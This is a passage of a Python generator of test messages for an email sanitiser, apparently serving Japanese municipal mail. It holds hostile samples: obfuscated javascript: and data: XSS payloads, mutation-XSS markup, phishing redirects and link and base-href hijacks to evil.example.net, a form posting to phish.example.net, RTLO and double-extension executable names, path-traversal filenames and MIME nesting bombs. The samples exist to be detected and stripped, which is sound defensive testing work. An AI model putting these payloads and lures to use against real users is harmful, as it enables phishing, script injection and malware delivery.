        not_contains=["malware.example.net", "Evil.class"],
        findings=["html.object"])

    add(c, "meta_refresh",
        msg_html(ew("自動転送"),
                 "<html><head>\n<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example.net/login\">\n"
                 "<meta http-equiv=\"Refresh\" content=\"5;URL='javascript:alert(1)'\">\n</head>\n"
                 "<body><p>このページは自動的に移動します。</p><p>移動しない場合は総務課までお問い合わせください。</p>"
                 "</body></html>\n"),
        "meta refresh redirects (to a remote URL and to javascript:): removed, targets not shown",
        subject="自動転送",
        contains=["このページは自動的に移動します。", "移動しない場合は総務課までお問い合わせください。"],
        not_contains=["evil.example.net", "alert("],
        findings=["html.meta_refresh"])

    add(c, "javascript_urls",
        msg_html(ew("請求書の確認"), page(
            "<p>請求書の内容をご確認ください。</p>\n"
            "<p><a href=\"javascript:alert('pay')\">請求書を確認する</a></p>\n"
            "<p><a href=\"  JaVaScRiPt:alert(2)\">確認2</a></p>\n"
            "<p><a href=\"jav&#x09;ascript:alert(3)\">確認3</a></p>\n"
            "<p><a href=\"&#106;avascript:alert(4)\">確認4</a></p>\n"
            "<p><a href=\"java\nscript:alert(5)\">確認5</a></p>\n"
            "<p><img src=\"javascript:alert(6)\" alt=\"図\"></p>")),
        "javascript: URLs, plain and obfuscated (case, leading spaces, tab entity, numeric entity, "
        "embedded newline): the link text stays, the URL becomes the removal marker",
        subject="請求書の確認",
        contains=["請求書の内容をご確認ください。", "請求書を確認する", "[removed javascript: link]"],
        not_contains=["alert(", "avascript:alert"],
        findings=["html.javascript_url"])

    add(c, "data_urls",
        msg_html(ew("見積書のリンク"), page(
            "<p>添付の代わりにリンクを送ります。</p>\n"
            "<p><a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+\">見積書を開く</a></p>\n"
            "<p><a href=\" DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E\">別のリンク</a></p>\n"
            "<p><img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\" alt=\"ロゴ\"></p>\n"
            "<p>ご確認ください。</p>")),
        "data: URLs in links (base64 HTML, mixed case) and an SVG data: image: the payload never "
        "appears, the marker does",
        subject="見積書のリンク",
        contains=["添付の代わりにリンクを送ります。", "見積書を開く", "[removed data: link]", "ご確認ください。"],
        not_contains=["PHNjcmlwdD", "PHN2Zy", "%3Cscript", "alert("],
        findings=["html.data_url"])

    add(c, "link_mismatch",
        msg_html(ew("口座情報の確認"), page(
            "<p>口座情報の確認をお願いします。</p>\n"
            "<p><a href=\"https://evil.example.net/login\">https://www.bank.example.jp/login</a></p>\n"
            "<p><a href=\"https://evil.example.net/x\">www.city.example.lg.jp</a></p>\n"
            "<p><a href=\"https://www.example.jp/info\">https://www.example.jp/info</a></p>")),
        "Link text shows one host, the href goes to another: the real destination is shown next to the "
        "text and the mismatch recorded",
        subject="口座情報の確認",
        contains=["口座情報の確認をお願いします。", "<https://evil.example.net/login>", "<https://evil.example.net/x>"],
        findings=["link.mismatch"])

    add(c, "base_href",
        msg_html(ew("市からのお知らせ"), page(
            "<p>くらしの情報です。</p>\n"
            "<ul><li><a href=\"gomi/calendar.html\">ごみ収集カレンダー</a></li>\n"
            "<li><a href=\"/index.html\">トップページ</a></li>\n"
            "<li><a href=\"../kosodate/\">子育て支援</a></li></ul>",
            "<base href=\"https://www.city.example.lg.jp/kurashi/\">\n")),
        "Relative links resolved against <base href>: the shown destinations are absolute",
        subject="市からのお知らせ",
        contains=["くらしの情報です。",
                  "ごみ収集カレンダー <https://www.city.example.lg.jp/kurashi/gomi/calendar.html>",
                  "トップページ <https://www.city.example.lg.jp/index.html>",
                  "子育て支援 <https://www.city.example.lg.jp/kosodate/>"],
        findings=["html.base_href"])

    add(c, "base_href_hijack",
        msg_html(ew("ログインのお願い"), page(
            "<p>市の電子申請システムにログインしてください。</p>\n"
            "<p><a href=\"login\">https://www.city.example.lg.jp/login</a></p>",
            "<base href=\"https://evil.example.net/\">\n")),
        "<base href> points to an attacker host so that a relative link whose text shows the city's "
        "URL really goes to evil.example.net: the real destination is shown",
        subject="ログインのお願い",
        contains=["市の電子申請システムにログインしてください。", "<https://evil.example.net/login>"],
        findings=["html.base_href", "link.mismatch"])

    add(c, "tracking_pixels",
        msg_html(ew("メールマガジン第12号"), page(
            "<p>メールマガジン第12号をお届けします。</p>\n"
            "<img src=\"https://track.example.net/open?u=12345\" width=\"1\" height=\"1\" alt=\"\">\n"
            "<img src=\"https://track.example.net/p.gif?id=abc\" style=\"width:1px;height:1px;border:0\">\n"
            "<img src=\"https://track.example.net/beacon.gif\" width=\"0\" height=\"0\">\n"
            "<p>配信停止をご希望の方はご連絡ください。</p>")),
        "1x1 and 0x0 remote images (attribute and CSS sizes) used as open trackers: never fetched or "
        "shown",
        subject="メールマガジン第12号",
        contains=["メールマガジン第12号をお届けします。", "配信停止をご希望の方はご連絡ください。"],
        not_contains=["track.example.net", "u=12345"],
        findings=["html.tracking_pixel"])

    add(c, "remote_image",
        msg_html(ew("市章について"), page(
            "<p><img src=\"https://www.city.example.lg.jp/img/logo.png\" alt=\"市章\" width=\"120\" height=\"120\"></p>\n"
            "<p>市章のデザインが決まりました。</p>")),
        "An ordinary remote image: shown as its alt text in the image marker",
        subject="市章について",
        contains=["[画像: 市章]", "市章のデザインが決まりました。"],
        findings=["html.remote_image"])

    add(c, "hidden_text_basic",
        msg_html(ew("お知らせ"), page(
            "<p>通常の本文です。</p>\n"
            "<div style=\"display:none\">HIDDEN-DISPLAY-NONE 隠しテキスト</div>\n"
            "<span style=\"DISPLAY : NONE !important\">HIDDEN-DISPLAY-SPACED</span>\n"
            "<p style=\"visibility:hidden\">HIDDEN-VISIBILITY</p>\n"
            "<p hidden>HIDDEN-ATTRIBUTE</p>\n"
            "<div style=\"color:red; display: none;\">HIDDEN-SECOND-DECLARATION</div>\n"
            "<div style=\"display:none\"><p>HIDDEN-NESTED <b>deep</b></p></div>\n"
            "<p>本文の続きです。</p>")),
        "Text hidden with display:none (any case and spacing, !important, second declaration, nested), "
        "visibility:hidden and the hidden attribute: never shown",
        subject="お知らせ",
        contains=["通常の本文です。", "本文の続きです。"],
        not_contains=["HIDDEN-DISPLAY-NONE", "隠しテキスト", "HIDDEN-DISPLAY-SPACED", "HIDDEN-VISIBILITY",
                      "HIDDEN-ATTRIBUTE", "HIDDEN-SECOND-DECLARATION", "HIDDEN-NESTED"],
        findings=["html.hidden_text"])

    add(c, "hidden_text_css_tricks",
        msg_html(ew("ご案内"), page(
            "<div style=\"max-height:0;overflow:hidden\">HIDDEN-PREHEADER</div>\n"
            "<p>ご案内本文です。</p>\n"
            "<span style=\"font-size:0\">HIDDEN-FONT-SIZE-0</span>\n"
            "<span style=\"font-size:0px;line-height:0\">HIDDEN-FONT-SIZE-0PX</span>\n"
            "<div style=\"opacity:0\">HIDDEN-OPACITY</div>\n"
            "<div style=\"position:absolute;left:-9999px\">HIDDEN-OFFSCREEN</div>\n"
            "<span style=\"color:#ffffff;background-color:#ffffff\">HIDDEN-WHITE-ON-WHITE</span>\n"
            "<div style=\"mso-hide:all;display:none\">HIDDEN-MSO</div>\n"
            "<p>以上、よろしくお願いします。</p>")),
        "Text hidden by CSS tricks spam and phishing use (zero max-height preheader, font-size 0, "
        "opacity 0, off-screen, white on white, mso-hide): not shown",
        subject="ご案内",
        contains=["ご案内本文です。", "以上、よろしくお願いします。"],
        not_contains=["HIDDEN-PREHEADER", "HIDDEN-FONT-SIZE-0", "HIDDEN-OPACITY", "HIDDEN-OFFSCREEN",
                      "HIDDEN-WHITE-ON-WHITE", "HIDDEN-MSO"],
        findings=["html.hidden_text"])

    add(c, "hidden_by_stylesheet",
        msg_html(ew("クラスで隠す"), page(
            "<p>表示される段落です。</p>\n"
            "<p class=\"x\">HIDDEN-BY-CLASS</p>\n"
            "<div id=\"y\">HIDDEN-BY-ID</div>\n"
            "<p>最後の段落です。</p>",
            "<style>\n.x { display: none }\n#y { visibility: hidden }\n</style>\n")),
        "Text hidden through a <style> sheet (class and id selectors) rather than inline style: not "
        "shown, and the style sheet itself never appears",
        subject="クラスで隠す",
        contains=["表示される段落です。", "最後の段落です。"],
        not_contains=["HIDDEN-BY-CLASS", "HIDDEN-BY-ID", "display: none"],
        findings=["html.hidden_text", "html.style"])

    add(c, "comments",
        msg_html(ew("コメント"), page(
            "<p>コメントの前の本文です。</p>\n"
            "<!-- 秘密のコメント: SECRET-COMMENT -->\n"
            "<!--[if mso]><p>MSO-ONLY-CONTENT</p><![endif]-->\n"
            "<!--[if !mso]><!--><p>NOT-MSO-CONTENT 表示される</p><!--<![endif]-->\n"
            "<!-- multi\nline <script>alert(1)</script>\ncomment -->\n"
            "<p>コメントの後の本文です。</p>")),
        "HTML comments, Outlook conditional comments (the downlevel-revealed form stays visible) and a "
        "comment containing script: comment text never appears",
        subject="コメント",
        contains=["コメントの前の本文です。", "NOT-MSO-CONTENT 表示される", "コメントの後の本文です。"],
        not_contains=["SECRET-COMMENT", "秘密のコメント", "MSO-ONLY-CONTENT", "alert(", "[if mso]"],
        findings=["html.comment"])

    add(c, "style_tricks",
        msg_html(ew("スタイル"), page(
            "<p style=\"background-image:url(https://evil.example.net/bg.gif)\">スタイル付きの本文です。</p>\n"
            "<p style=\"width:expression(alert(3))\">もう一つの段落です。</p>",
            "<style>\n@import url(\"https://evil.example.net/x.css\");\n"
            "body { background: url(\"javascript:alert(1)\") }\n.a { width: expression(alert(2)) }\n</style>\n")),
        "Style sheets and inline styles with @import, remote background images, javascript: URLs and "
        "IE expression(): no CSS text reaches the output",
        subject="スタイル",
        contains=["スタイル付きの本文です。", "もう一つの段落です。"],
        not_contains=["@import", "expression(", "evil.example.net", "alert("],
        findings=["html.style"])

    add(c, "entities",
        msg_html(ew("文字参照"), page(
            "<p>&#x65E5;&#x672C;&#35486;&#12398;&#25991;&#23383;&#21442;&#29031;</p>\n"
            "<p>&copy; 2024 A&amp;B</p>\n"
            "<p>&lt;b&gt;太字ではない&lt;/b&gt;</p>\n"
            "<p>&amp;lt;script&amp;gt;</p>")),
        "Numeric and named character references are decoded once: escaped markup stays literal text and "
        "is not decoded twice",
        subject="文字参照",
        contains=["日本語の文字参照", "© 2024 A&B", "<b>太字ではない</b>", "&lt;script&gt;"])

    add(c, "foreign_content_mxss",
        msg_html(ew("SVGとMathML"), page(
            "<p>図の説明です。</p>\n"
            "<svg><script>alert('svg')</script><foreignObject><iframe src=\"https://evil.example.net/\"></iframe>"
            "</foreignObject></svg>\n"
            "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table>"
            "</mtext></math>\n"
            "<p>説明は以上です。</p>")),
        "SVG/MathML foreign content with script and the classic mutation-XSS shapes: nothing active "
        "or hidden comes out whichever way the tree is built",
        subject="SVGとMathML",
        contains=["図の説明です。", "説明は以上です。"],
        not_contains=["alert(", "evil.example.net"],
        findings=["html.script"])

    add(c, "link_entities_in_href",
        msg_html(ew("お申し込み"), page(
            "<p><a href=\"https://www.example.jp/apply?x=1&amp;y=2\">お申し込み</a></p>\n"
            "<p><a href=\"HTTPS://WWW.EXAMPLE.JP/Path\">大文字のURL</a></p>")),
        "Character references inside href are decoded once in the shown destination",
        subject="お申し込み",
        contains=["お申し込み <https://www.example.jp/apply?x=1&y=2>"],
        not_contains=["&amp;y=2"])


# ===========================================================================
# attachments/


def attachments_cases() -> None:
    c = "attachments"

    add(c, "pe_executable",
        head(ew("更新プログラム")).encode("ascii")
        + multipart("=_pe", [
            text_part("更新プログラムを添付します。実行してください。\n"),
            named("application/x-msdownload", PE, "setup.exe"),
        ]),
        "A PE executable (MZ + PE header) named setup.exe: removed and named",
        subject="更新プログラム",
        contains=["更新プログラムを添付します。実行してください。", "setup.exe"],
        not_contains=[PE_B64_HEAD],
        findings=["attachment.executable"])

    add(c, "pe_disguised_as_pdf",
        head(ew("請求書")).encode("ascii")
        + multipart("=_pepdf", [
            text_part("請求書をお送りします。\n"),
            attach("application/pdf", PE, ct_params='name="' + ew("請求書.pdf") + '"',
                   disp_params=rfc2231("filename", "請求書.pdf".encode())),
        ]),
        "An executable (MZ/PE magic) labelled application/pdf and named 請求書.pdf: detected by content, "
        "removed, the type mismatch recorded",
        subject="請求書",
        contains=["請求書をお送りします。", "請求書.pdf"],
        not_contains=[PE_B64_HEAD],
        findings=["attachment.executable", "attachment.type_mismatch"])

    add(c, "double_extensions",
        head(ew("書類一式")).encode("ascii")
        + multipart("=_dbl", [
            text_part("書類一式を送ります。\n"),
            attach("application/octet-stream", PE, disp_params=rfc2231("filename", "請求書.pdf.exe".encode())),
            attach("application/octet-stream", PE, ct_params='name="photo.jpg.scr"',
                   disp_params='filename="photo.jpg.scr"'),
            attach("application/octet-stream", PE, ct_params='name="report.doc                    .exe"',
                   disp_params='filename="report.doc                    .exe"'),
        ]),
        "Double extensions (請求書.pdf.exe, photo.jpg.scr, and a name padded with spaces before .exe so "
        "the real extension scrolls out of view): all removed and named",
        subject="書類一式",
        contains=["書類一式を送ります。", "請求書.pdf.exe", "photo.jpg.scr", "report.doc"],
        not_contains=[PE_B64_HEAD],
        findings=["attachment.double_extension", "attachment.executable"])

    add(c, "rtlo_names",
        head(ew("Invoice")).encode("ascii")
        + multipart("=_rtlo", [
            text_part("請求書を添付します。\n"),
            attach("application/octet-stream", PE, disp_params=rfc2231("filename", "invoice\u202efdp.exe".encode())),
            attach("application/octet-stream", PE, ct_params='name="' + ew("請求書\u202excod.scr") + '"',
                   disp_params='filename="' + ew("請求書\u202excod.scr") + '"'),
        ]),
        "Right-to-left override in filenames ('invoice<RLO>fdp.exe' displays as 'invoiceexe.pdf'): "
        "removed, named with the control shown escaped, never raw",
        subject="Invoice",
        contains=["請求書を添付します。", "invoice<U+202E>fdp.exe", "請求書<U+202E>xcod.scr"],
        not_contains=["\u202e", PE_B64_HEAD],
        findings=["attachment.bidi_name", "attachment.executable"])

    add(c, "other_bidi_names",
        head("Bidi").encode("ascii")
        + multipart("=_bidi", [
            text_part("双方向制御文字を含むファイル名です。\n"),
            attach("application/octet-stream", b"var x = 1;\n",
                   disp_params=rfc2231("filename", "photo\u2067gpj.js\u2069".encode())),
            attach("application/octet-stream", PE, disp_params=rfc2231("filename", "報告書\u202dfdp.exe".encode())),
        ]),
        "Other bidi controls in filenames (RIGHT-TO-LEFT ISOLATE + POP DIRECTIONAL ISOLATE, "
        "LEFT-TO-RIGHT OVERRIDE): shown escaped",
        contains=["双方向制御文字を含むファイル名です。", "photo<U+2067>gpj.js<U+2069>", "報告書<U+202D>fdp.exe"],
        not_contains=["\u2067", "\u2069", "\u202d"],
        findings=["attachment.bidi_name"])

    scripts = [("application/javascript", "invoice.js", b"WScript.Echo('x');\n"),
               ("text/vbscript", "macro.vbs", b"MsgBox \"x\"\n"),
               ("application/hta", "update.hta", b"<html><script>alert(1)</script></html>\n"),
               ("application/x-ms-shortcut", "document.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68)),
               ("application/x-iso9660-image", "files.iso", b"\x00" * 64 + b"CD001"),
               ("application/vnd.ms-word.document.macroEnabled.12", "report.docm", DOCX),
               ("application/octet-stream", "task.wsf", b"<job><script language=\"JScript\">x</script></job>\n"),
               ("text/html", "login.html", b"<form action=\"https://phish.example.net/\"></form>\n")]
    add(c, "script_and_container_files",
        head(ew("各種ファイル")).encode("ascii")
        + multipart("=_scripts", [text_part("各種ファイルを添付します。\n")]
                    + [named(ct, data, fn) for ct, fn, data in scripts]),
        "Script and container attachments malware uses (.js .vbs .hta .lnk .iso .docm .wsf, an HTML "
        "file): all removed and named, none rendered",
        subject="各種ファイル",
        contains=["各種ファイルを添付します。"] + [fn for _, fn, _ in scripts],
        not_contains=["WScript", "phish.example.net", "alert("],
        findings=["attachment.removed"])

    add(c, "zip_with_exe",
        head(ew("資料一式")).encode("ascii")
        + multipart("=_zip", [
            text_part("資料一式をZIPで送ります。\n"),
            attach("application/zip", fake_zip({"setup.exe": PE, "readme.txt": b"read me\n"}),
                   ct_params='name="' + ew("資料一式.zip") + '"', disp_params='filename="' + ew("資料一式.zip") + '"'),
        ]),
        "A ZIP archive containing an executable: removed and named (archive contents are not passed on)",
        subject="資料一式",
        contains=["資料一式をZIPで送ります。", "資料一式.zip"],
        findings=["attachment.removed"])

    add(c, "attachment_without_name",
        head("No name").encode("ascii")
        + multipart("=_noname", [
            text_part("名前のない添付ファイルがあります。\n"),
            b"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n" + b64(PE).encode() + b"\n",
        ]),
        "An application/octet-stream part with neither name nor filename (an executable): removed and "
        "mentioned in the notice even without a name",
        contains=["名前のない添付ファイルがあります。"],
        not_contains=[PE_B64_HEAD],
        findings=["attachment.executable"])

    add(c, "inline_disposition_pdf",
        head(ew("ご案内")).encode("ascii")
        + multipart("=_inl", [
            text_part("案内状を本文中に表示します。\n"),
            attach("application/pdf", PDF, ct_params='name="annai.pdf"', disp_params='filename="annai.pdf"',
                   disposition="inline"),
        ]),
        "A PDF marked Content-Disposition: inline (so clients show it in the body): still an "
        "attachment: rendered into PNG pages (annai.pdf-p1.png) and named",
        subject="ご案内",
        contains=["案内状を本文中に表示します。", "annai.pdf", "1 of 1 pages rendered as PNG"],
        findings=["attachment.rendered"])

    add(c, "path_in_filename",
        head("Paths").encode("ascii")
        + multipart("=_path", [
            text_part("パスを含むファイル名です。\n"),
            named("application/octet-stream", b"#!/bin/sh\necho x\n", "../../etc/cron.d/evil.sh"),
            attach("application/octet-stream", PE,
                   disp_params="filename*=UTF-8''" + pct(b"..\\..\\Users\\Public\\Startup\\evil.dll")),
        ]),
        "Filenames with directory traversal (../ and ..\\): removed; named without letting the path do "
        "anything",
        contains=["パスを含むファイル名です。", "evil.sh", "evil.dll"],
        not_contains=[PE_B64_HEAD])

    long_name = ("2024年度_第1四半期_地域包括支援センター_運営協議会_資料_" * 4) + "最終版.pdf"
    add(c, "very_long_filename",
        head(ew("長いファイル名")).encode("ascii")
        + multipart("=_longname", [
            text_part("長いファイル名の添付です。\n"),
            attach("application/pdf", PDF, disp_params=rfc2231("filename", long_name.encode(), pieces=12)),
        ]),
        "A 130-character Japanese filename (over 500 bytes percent-encoded) in 12 RFC 2231 "
        "continuations: named in full in the notice",
        subject="長いファイル名",
        contains=["長いファイル名の添付です。", long_name])


# ===========================================================================
# limits/


def nested(depth: int, leaf: bytes) -> bytes:
    """`depth` levels of multipart/mixed around `leaf` (a part: headers + body)."""
    body = leaf
    for i in range(depth, 0, -1):
        b = f"d{i:03d}"  # fixed width: no boundary is a prefix of another
        body = (f'Content-Type: multipart/mixed; boundary="{b}"\n\n--{b}\n').encode("ascii") + body + f"--{b}--\n".encode("ascii")
    return body


def limits_cases() -> None:
    c = "limits"

    leaf = b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: base64\n\n" \
        + b64("最深部のテキストです。\n".encode()).encode() + b"\n"
    add(c, "deep_nesting_200",
        head("Deep").encode("ascii") + nested(200, leaf),
        "200 levels of multipart/mixed (a recursion bomb for naive parsers)",
        verdict="quarantine", findings=["limit.depth"])

    add(c, "nesting_25",
        head("Deep").encode("ascii") + nested(25, leaf),
        "25 levels of multipart/mixed: just over the 20-level limit",
        verdict="quarantine", findings=["limit.depth"])

    add(c, "nesting_5_ok",
        head(ew("入れ子")).encode("ascii") + nested(5, leaf),
        "5 levels of multipart/mixed: well inside the limit, delivered",
        subject="入れ子",
        contains=["最深部のテキストです。"])

    inner = (b"From: inner@example.jp\nSubject: level\nContent-Type: text/plain; charset=us-ascii\n\n"
             b"innermost forwarded text\n")
    for i in range(25):
        inner = (f"From: fwd{i}@example.jp\nSubject: Fwd {i}\nMIME-Version: 1.0\n"
                 f"Content-Type: message/rfc822\n\n").encode("ascii") + inner
    add(c, "rfc822_nesting_25",
        head("Fwd chain").encode("ascii") + b"Content-Type: message/rfc822\n\n" + inner,
        "25 message/rfc822 levels (a forward of a forward of ...): over the depth limit",
        verdict="quarantine", findings=["limit.depth"])

    parts = b"".join(b"--p\n\nx\n" for _ in range(10000))
    add(c, "parts_10000",
        head("Many parts").encode("ascii") + b'Content-Type: multipart/mixed; boundary="p"\n\n' + parts + b"--p--\n",
        "10,000 tiny parts in one multipart (part-count bomb)",
        verdict="quarantine", findings=["limit.parts"])

    parts = b"".join(f"--q\nContent-Type: text/plain\n\nshort part {i}\n".encode() for i in range(1, 1002))
    add(c, "parts_1001",
        head("Many parts").encode("ascii") + b'Content-Type: multipart/mixed; boundary="q"\n\n' + parts + b"--q--\n",
        "1,001 text parts: just over the 1,000-part limit",
        verdict="quarantine", findings=["limit.parts"])

    parts = b"".join(f"--r\nContent-Type: text/plain\n\npart-{i:04d}\n".encode() for i in range(1, 201))
    add(c, "parts_200_ok",
        head("Two hundred parts").encode("ascii") + b'Content-Type: multipart/mixed; boundary="r"\n\n' + parts + b"--r--\n",
        "200 short inline text parts: inside the limit, every part's text is kept",
        contains=["part-0001", "part-0100", "part-0200"])

    big = "X-Padding: " + "\n ".join("A" * 76 for _ in range(1300)) + "\n"
    add(c, "header_100kb",
        head("Big header", extra=big).encode("ascii") + b"Content-Type: text/plain\n\nbody\n",
        "A 100 KB header field (folded over 1,300 lines): the header section exceeds 64 KiB",
        verdict="quarantine", findings=["limit.header_bytes"])

    recv = "".join(f"Received: from relay{i}.example.net (relay{i}.example.net [192.0.2.{i % 250 + 1}])\n"
                   f"\tby relay{i + 1}.example.net with ESMTP id R{i:05d}; Mon, 1 Apr 2024 10:00:00 +0900\n"
                   for i in range(250))
    add(c, "header_40kb_ok",
        (recv + head(ew("中継の多いメール"))).encode("ascii") + text_part("中継サーバを多数経由したメールです。\n"),
        "About 40 KB of Received headers (250 hops): under the header limit, delivered",
        subject="中継の多いメール",
        contains=["中継サーバを多数経由したメールです。"])

    line = ("長い行の始まり。" + "あいうえおかきくけこ" * 12000).encode("utf-8")
    add(c, "long_body_line",
        head(ew("長い行")).encode("ascii")
        + b"Content-Type: text/plain; charset=UTF-8\nContent-Transfer-Encoding: 8bit\n\n" + line + "\n末尾の行です。\n".encode(),
        "A single 360 KB body line without a line break (8bit, violating the 998-octet limit): "
        "delivered with lines the output can carry",
        subject="長い行",
        contains=["長い行の始まり。", "末尾の行です。"])


# ===========================================================================
# structure/


def structure_cases() -> None:
    c = "structure"

    add(c, "alternative_text_html",
        head(ew("振込先のご案内")).encode("ascii")
        + multipart("=_alt", [
            text_part("TEXT-RENDITION-ONLY\n振込先は別途ご連絡します。\n"),
            html_part("<html><body><p>振込先口座は以下のとおりです。</p><p>〇〇銀行 本店 普通 1234567</p>"
                      "<p><a href=\"https://www.example.jp/pay\">お支払いページ</a></p></body></html>\n"),
        ], subtype="alternative"),
        "multipart/alternative whose text and HTML renditions say different things: the HTML rendition "
        "(what most clients show) is converted and shown, the other is not",
        subject="振込先のご案内",
        contains=["振込先口座は以下のとおりです。", "〇〇銀行 本店 普通 1234567", "お支払いページ <https://www.example.jp/pay>"],
        not_contains=["TEXT-RENDITION-ONLY"],
        findings=["mime.alternative_chosen"])

    add(c, "alternative_html_first",
        head("Order").encode("ascii")
        + multipart("=_altrev", [
            html_part("<html><body><p>HTML版の本文です。</p><script>alert(1)</script></body></html>\n"),
            text_part("TEXT-RENDITION-LAST\n"),
        ], subtype="alternative"),
        "multipart/alternative with the HTML first and the text last: the HTML rendition is still the "
        "preferred one, and it is sanitised",
        contains=["HTML版の本文です。"],
        not_contains=["alert("],
        findings=["mime.alternative_chosen", "html.script"])

    add(c, "related_cid_image",
        head(ew("地図のご案内")).encode("ascii")
        + multipart("=_rel", [
            html_part("<html><body><p>会場までの地図です。</p><img src=\"cid:map01@example.jp\" alt=\"会場地図\">"
                      "<p>最寄り駅から徒歩5分です。</p></body></html>\n"),
            b"Content-Type: image/png; name=\"map.png\"\nContent-ID: <map01@example.jp>\n"
            b"Content-Disposition: inline; filename=\"map.png\"\nContent-Transfer-Encoding: base64\n\n"
            + b64(tiny_png()).encode() + b"\n",
        ], subtype="related", ct_extra='; type="text/html"'),
        "multipart/related: HTML with an inline cid: image; the image marker shows the alt text",
        subject="地図のご案内",
        contains=["会場までの地図です。", "[画像: 会場地図]", "最寄り駅から徒歩5分です。"])

    inner = (("From: " + ew("山田 花子") + " <hanako.yamada@example.com>\n"
              "To: taro.yamada@example.jp\n"
              "Subject: " + ew("打ち合わせ議事録") + "\n"
              "Date: Fri, 29 Mar 2024 17:30:00 +0900\n"
              "Message-ID: <inner.20240329@example.com>\nMIME-Version: 1.0\n").encode("ascii")
             + multipart("=_inner_fwd", [
                 text_part("先日の打ち合わせの議事録を送ります。\n次回は4月12日です。\n"),
                 attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", DOCX,
                        disp_params=rfc2231("filename", "議事録_0329.docx".encode())),
             ]))
    add(c, "rfc822_forwarded",
        head("Fwd: " + ew("打ち合わせ議事録")).encode("ascii")
        + multipart("=_fwd", [
            text_part("以下のメールを転送します。\n"),
            b"Content-Type: message/rfc822\nContent-Disposition: inline\n\n" + inner,
        ]),
        "A forwarded message/rfc822 with its own attachment: flattened into the text with its From, "
        "Date and Subject, and its attachment named",
        subject="Fwd: 打ち合わせ議事録",
        contains=["以下のメールを転送します。", "hanako.yamada@example.com", "打ち合わせ議事録",
                  "先日の打ち合わせの議事録を送ります。", "次回は4月12日です。", "議事録_0329.docx"],
        findings=["message.forwarded", "attachment.removed"])

    inner2 = (b"From: it-support@example.net\nTo: staff@example.jp\nSubject: Security update\n"
              b"Date: Thu, 28 Mar 2024 09:00:00 +0000\nMIME-Version: 1.0\n"
              + multipart("=_in2", [text_part("Please run the attached update.\n", "us-ascii", "7bit"),
                                    named("application/octet-stream", PE, "update.exe")]))
    add(c, "rfc822_with_executable",
        head("Fwd: Security update").encode("ascii")
        + multipart("=_fwd2", [
            text_part("怪しいメールが届いたので転送します。\n"),
            b"Content-Type: message/rfc822; name=\"security.eml\"\nContent-Disposition: attachment; "
            b"filename=\"security.eml\"\n\n" + inner2,
        ]),
        "An attached .eml (message/rfc822 as attachment) that carries an executable: flattened, the "
        "executable inside removed and named",
        contains=["怪しいメールが届いたので転送します。", "Please run the attached update.", "update.exe",
                  "it-support@example.net"],
        not_contains=[PE_B64_HEAD],
        findings=["message.forwarded", "attachment.executable"])

    inner3 = (("From: " + ew("総務課", "ISO-2022-JP") + " <soumu@example.com>\n"
               "Subject: " + ew("年末調整の書類提出について", "ISO-2022-JP") + "\n"
               "Date: Wed, 27 Mar 2024 12:00:00 +0900\nMIME-Version: 1.0\n"
               "Content-Type: text/plain; charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n").encode("ascii")
              + jis("年末調整の書類は4月5日までに提出してください。\n"))
    add(c, "rfc822_iso2022jp",
        head(ew("転送：年末調整", "ISO-2022-JP")).encode("ascii")
        + multipart("=_fwd3", [text_part("転送します。\n", "ISO-2022-JP", "7bit"),
                               b"Content-Type: message/rfc822\n\n" + inner3]),
        "A forwarded Japanese message whose own headers are ISO-2022-JP encoded-words: shown decoded",
        subject="転送：年末調整",
        contains=["転送します。", "年末調整の書類提出について", "年末調整の書類は4月5日までに提出してください。"],
        findings=["message.forwarded"])

    add(c, "signed_smime",
        head(ew("署名付きメール")).encode("ascii")
        + multipart("=_signed", [
            text_part("このメールには電子署名が付いています。\n"),
            b"Content-Type: application/pkcs7-signature; name=\"smime.p7s\"\nContent-Transfer-Encoding: base64\n"
            b"Content-Disposition: attachment; filename=\"smime.p7s\"\n\n"
            + b64(b"\x30\x82\x01\x00\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + bytes(64)).encode() + b"\n",
        ], subtype="signed",
            ct_extra='; protocol="application/pkcs7-signature"; micalg=sha-256'),
        "An S/MIME multipart/signed message: the signed text is delivered, the signature (which no "
        "longer verifies after sanitising) removed",
        subject="署名付きメール",
        contains=["このメールには電子署名が付いています。"],
        findings=["signature.removed"])

    add(c, "signed_pgp",
        head("PGP signed").encode("ascii")
        + multipart("=_pgpsig", [
            b"Content-Type: text/plain; charset=us-ascii\n\nThis message is signed with OpenPGP.\n",
            b"Content-Type: application/pgp-signature; name=\"signature.asc\"\n\n"
            b"-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAdFiEEAAAAAAAAAAAAAAAAAAAAAAAAAAAFAmYKAAAACgkQAAAAAAAA\n"
            b"=abcd\n-----END PGP SIGNATURE-----\n",
        ], subtype="signed", ct_extra='; protocol="application/pgp-signature"; micalg=pgp-sha256'),
        "A PGP/MIME multipart/signed message: text delivered, signature removed",
        contains=["This message is signed with OpenPGP."],
        not_contains=["BEGIN PGP SIGNATURE"],
        findings=["signature.removed"])

    add(c, "encrypted_smime",
        head("Encrypted").encode("ascii")
        + b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=\"smime.p7m\"\n"
        + b"Content-Disposition: attachment; filename=\"smime.p7m\"\nContent-Transfer-Encoding: base64\n\n"
        + b64(b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03" + bytes(200)).encode() + b"\n",
        "S/MIME enveloped-data (encrypted): the content cannot be inspected",
        verdict="quarantine", findings=["crypto.encrypted"])

    add(c, "encrypted_pgp_mime",
        head("Encrypted").encode("ascii")
        + multipart("=_pgpenc", [
            b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
            b"Content-Type: application/octet-stream; name=\"encrypted.asc\"\n\n"
            b"-----BEGIN PGP MESSAGE-----\n\nhQEMAwAAAAAAAAAAAQf/AAAAAAAAAAAAAAAA\n=wxyz\n-----END PGP MESSAGE-----\n",
        ], subtype="encrypted", ct_extra='; protocol="application/pgp-encrypted"'),
